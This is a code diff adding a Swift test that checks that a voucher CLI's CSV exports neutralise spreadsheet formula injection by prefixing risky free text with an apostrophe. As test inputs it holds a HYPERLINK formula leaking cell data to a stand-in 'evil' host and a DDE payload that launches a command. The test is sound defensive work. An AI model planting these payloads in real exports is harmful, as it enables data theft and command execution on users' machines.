@@ -88,6 +88,34 @@ import Testing
         #expect(ok.status == 0 && ok.stdout.contains("Imported 1 of 2"))
     }
 
+    /// Text from outside that starts a spreadsheet formula (a rule name, an experience, a reason, a
+    /// reference) is written with a leading ' in every CSV the CLI prints; amounts stay numbers.
+    @Test func csvOutput_writesFreeTextThatStartsAFormula_asText() throws {
+        let cli = CLIRunner(now: "2025-04-02T09:00:00Z")
+        let hyperlink = #"=HYPERLINK("http://evil/?"&A1,"click")"#
+        let policy = try String(contentsOf: Repository.file("Policies/default.json"), encoding: .utf8)
+            .replacingOccurrences(of: "\"version\": 1", with: "\"version\": 2")
+            .replacingOccurrences(of: "\"recently expired, first time\"", with: #""=HYPERLINK(\"http://evil/?\"&A1,\"click\")""#)
+        let file = cli.folder.appendingPathComponent("policy.json")
+        try policy.write(to: file, atomically: true, encoding: .utf8)
+        let activated = try cli.run(["policy", "activate", file.path])
+        #expect(activated.status == 0, "\(activated.stderr)")
+        let code = try cli.issue(["--holder-email", "anna@example.com", "--kind", "experience", "--experience", "@SUM(1+1)*cmd|' /C calc'!A0"])
+        let later = ["GOODWILL_NOW": "2026-04-16T08:30:00Z"]
+        let extend = try cli.run(["extend", code, "--reason", "+46 called, did not see the date"], env: later)
+        #expect(extend.status == 0, "\(extend.stderr)")
+        #expect(try cli.run(["redeem", code, "--amount", "100", "--reference", "-1+1"], env: later).status == 0)
+
+        let report = try cli.run(["report", "goodwill", "--format", "csv"], env: later)
+        #expect(report.status == 0)
+        #expect(report.stdout.contains("\r\nrule,\"'" + hyperlink.replacingOccurrences(of: "\"", with: "\"\"") + "\",SEK,1,30,"), "\(report.stdout)")
+        let vouchers = try cli.run(["export", "vouchers"], env: later)
+        #expect(vouchers.stdout.contains(",experience,'@SUM(1+1)*cmd|' /C calc'!A0,default\r\n"), "\(vouchers.stdout)")
+        let entries = try cli.run(["export", "entries"], env: later)
+        #expect(entries.stdout.contains(",\"'+46 called, did not see the date\","), "\(entries.stdout)")
+        #expect(entries.stdout.contains(",redeemed,-10000,40000,SEK,cli:tester,,'-1+1,"), "\(entries.stdout)")
+    }
+
     /// The replay moves its clock through the book's past; what opening the new database installs
     /// (the default policy) is dated when it was installed.
     @Test func fixturesLoad_datesTheDefaultPolicyWhenItWasInstalled_not1970() throws {
